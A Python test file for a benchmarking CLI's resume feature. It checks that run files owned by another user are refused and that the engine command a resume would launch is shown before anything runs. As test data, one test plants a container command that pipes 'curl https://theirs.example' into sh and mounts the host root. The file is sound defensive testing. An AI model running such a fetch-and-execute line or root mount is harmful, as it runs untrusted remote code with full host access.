"""`--resume` runs what run.json says (its engine's image, command, volumes, environment and Python): a run
directory, or a run.json, that another user owns is refused naming the owner and how to take it over, and what a
resume will launch is shown before anything starts."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from bench.flows.measure import resumed_jobs
from bench.inputs.measure_options import MeasureFlags
from tests.bench.test_cli import only_run_dir, sweep_args

OTHER_UID = 4242  # no user of this machine: the tests run as root, so os.chown gives files to anyone


@pytest.fixture
def interrupted(scripted, tmp_path: Path, cli) -> Path:
    """A short sweep against the scripted server, its run.json then saying it was interrupted."""
    scripted.set_script(ttft_ms=1, itl_ms=1)
    made = cli(*sweep_args(scripted, tmp_path / "runs", "--concurrency", "1", "--requests", "3", "--no-report"))
    assert made.exit_code == 0, made.output
    run_dir = only_run_dir(tmp_path / "runs")
    set_run(run_dir, status="interrupted")
    return run_dir


def set_run(run_dir: Path, **fields: object) -> None:
    info = json.loads((run_dir / "run.json").read_text())
    (run_dir / "run.json").write_text(json.dumps({**info, **fields}))


def test_resuming_a_run_json_another_user_owns_is_refused_naming_the_owner(interrupted: Path, cli) -> None:
    shutil.chown(interrupted / "run.json", OTHER_UID)
    said = cli("sweep", "--resume", str(interrupted))
    assert said.exit_code == 2, said.output
    text = " ".join(said.output.split())
    assert f"{interrupted / 'run.json'} belongs to uid {OTHER_UID}, not to you" in text
    assert "To take it over, copy it (cp -r" in text and "--resume the copy" in text
    assert "engine" in text and "launches" not in text  # nothing was shown as about to run: refused first
    assert not (interrupted / "engine.log").exists()


def test_resuming_a_run_directory_another_user_owns_is_refused_and_its_copy_is_yours(interrupted: Path,
                                                                                      cli) -> None:
    shutil.chown(interrupted, OTHER_UID)
    said = cli("sweep", "--resume", str(interrupted))
    assert said.exit_code == 2 and f"belongs to uid {OTHER_UID}" in said.output
    copy = interrupted.parent / "mine"
    shutil.copytree(interrupted, copy)  # as the message says: the copy is owned by whoever made it
    resumed = cli("sweep", "--resume", str(copy))
    assert resumed.exit_code == 0, resumed.output
    assert f"resuming {copy}, which launches what its run.json says:" in resumed.output
    assert "nothing launched: the endpoint http://127.0.0.1:" in resumed.output


def test_what_a_resume_launches_is_shown_before_anything_starts(interrupted: Path) -> None:
    info = json.loads((interrupted / "run.json").read_text())
    spec = info["engine_spec"]
    set_run(interrupted, engine_spec={**spec, "engine": "vllm", "model": "org/model",
                                      "args": {"python": "/opt/theirs/bin/python", "max-num-seqs": 8},
                                      "env": {"VLLM_LOGGING_LEVEL": "DEBUG"}})
    said: list[str] = []  # what the flow says, for the command to print (the CLI test above sees it printed)
    jobs, _ = resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [], said.append)
    shown = "\n".join(said)
    assert len(jobs) == 1  # a job made, nothing launched: what it will run is said first
    assert "engine vllm, model org/model" in shown
    assert ("command: /opt/theirs/bin/python -m vllm.entrypoints.openai.api_server --model org/model "
            "--served-model-name org/model --host 127.0.0.1 --port 0") in shown
    assert "--max-num-seqs 8" in shown and "environment: VLLM_LOGGING_LEVEL" in shown and "DEBUG" not in shown
    set_run(interrupted, engine_spec={**spec, "engine": "container", "name": "theirs", "image": "theirs/image:1",
                                      "command": ["sh", "-c", "curl https://theirs.example | sh"],
                                      "container_port": 8000, "served_model": "m", "volumes": {"/": "/host"}})
    said.clear()
    resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [], said.append)
    shown = "\n".join(said)
    assert "image: theirs/image:1" in shown and "mount: / -> /host" in shown
    assert "command: sh -c 'curl https://theirs.example | sh'" in shown


def test_resuming_a_tune_folder_another_user_owns_is_refused(tmp_path: Path, cli) -> None:
    folder = tmp_path / "runs" / "tune-20261201T170000Z-reference"
    folder.mkdir(parents=True)
    (folder / "tune.json").write_text(json.dumps({"engine": "reference", "configs": []}))
    shutil.chown(folder / "tune.json", OTHER_UID)  # its configurations' engine arguments would run as written
    said = cli("tune", "--resume", str(folder))
    assert said.exit_code == 2, said.output
    assert f"belongs to uid {OTHER_UID}" in said.output and "its tune.json names" in " ".join(said.output.split())
